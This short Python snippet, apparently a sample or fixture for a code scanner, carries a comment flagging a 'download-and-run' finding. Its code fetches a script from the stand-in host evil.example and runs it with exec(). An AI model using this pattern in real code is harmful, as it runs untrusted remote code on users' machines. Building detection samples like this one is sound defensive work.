# nacre: found process.download-and-run
from urllib.request import urlopen
code = urlopen("http://evil.example/p.py").read()
exec(code.decode())
